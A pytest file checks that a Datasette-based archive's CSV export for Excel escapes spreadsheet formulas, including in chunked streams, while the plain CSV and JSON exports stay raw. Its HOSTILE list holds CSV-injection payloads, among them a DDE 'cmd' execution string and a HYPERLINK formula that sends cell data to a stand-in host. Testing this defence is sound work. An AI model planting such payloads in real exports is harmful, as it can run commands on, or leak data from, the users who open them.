"""The CSV for Excel never hands a spreadsheet a formula; the plain CSV and JSON stay raw."""

from __future__ import annotations

import asyncio
import csv
import io
import random

import pytest
from datasette.app import Datasette

from archive.publish import prepare
from archive.publish.csvsafe import FormulaGuard, neutralise
from archive.publish.serve import SETTINGS
from tests.publish.test_publish_search import SITES, add_report, build_archive

HOSTILE = [
    "=1+2 某县2024年政府信息公开工作年度报告",
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formulas_become_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "1e5", "-", "某县", "", "2024-01-31"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    expected = "'-" if value == "-" else value  # a lone sign is no number: shown as text
    assert neutralise(value) == expected


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("seed", range(20))
def test_chunked_like_a_stream_the_result_is_the_same(seed):
    rng = random.Random(seed)
    rows = [["id", "title", "text", "value"]] + [
        [
            str(i),
            rng.choice(HOSTILE + ["某县人民政府", "a,b", 'he said "hi"']),
            '第一行\r\n第二行, 含引号""' if i % 3 else "=x\n=y",
            str(rng.choice([-3, 2.5, 0])),
        ]
        for i in range(40)
    ]
    body = _csv(rows)
    cuts = sorted(rng.sample(range(1, len(body)), 12))
    guard = FormulaGuard()
    out = b"".join(
        guard.feed(body[a:b]) for a, b in zip([0, *cuts], [*cuts, len(body)], strict=True)
    )
    out += guard.end()
    parsed = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert parsed == [[neutralise(c) for c in row] for row in rows]
    assert out == _csv([[neutralise(c) for c in row] for row in rows])


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "nb.db"
    archive = build_archive(path, seed=3, per_site=1)
    report_id = add_report(archive, random.Random(5), SITES[0], 2024)
    with archive.transaction():
        archive.db.conn.execute(
            "update reports set title = ?, agency = ? where id = ?",
            [HOSTILE[0], "@某县", report_id],
        )
        archive.db.conn.execute(
            "update cells set raw = '=1+2' where report_id = ? and table_key = 't3' "
            "and row_key = 'new_requests' and col_key = 'total'",
            [report_id],
        )
    prepare(archive.db.conn)
    archive.close()
    return Datasette([str(path)], settings=SETTINGS), report_id


def _get(ds, url: str):
    return asyncio.run(ds.client.get(url))


def test_the_excel_export_neutralises_and_the_others_stay_raw(served):
    ds, report_id = served
    for url in (
        f"/nb/reports.csv?id={report_id}&_bom=1",
        f"/nb/reports.csv?id={report_id}&_bom=1&_stream=on",
    ):
        excel = _get(ds, url)
        assert excel.content.startswith(b"\xef\xbb\xbf")
        [row] = list(csv.DictReader(io.StringIO(excel.content.decode("utf-8-sig"))))
        assert row["title"] == "'" + HOSTILE[0] and row["agency"] == "'@某县"
        assert row["id"] == str(report_id)
    cells = _get(ds, f"/nb/cells.csv?report_id={report_id}&raw=%3D1%2B2&_bom=1").text
    assert ",'=1+2" in cells
    [plain] = list(csv.DictReader(io.StringIO(_get(ds, f"/nb/reports.csv?id={report_id}").text)))
    assert plain["title"] == HOSTILE[0]
    data = _get(ds, f"/nb/reports.json?id={report_id}&_shape=objects").json()
    assert data["rows"][0]["title"] == HOSTILE[0]
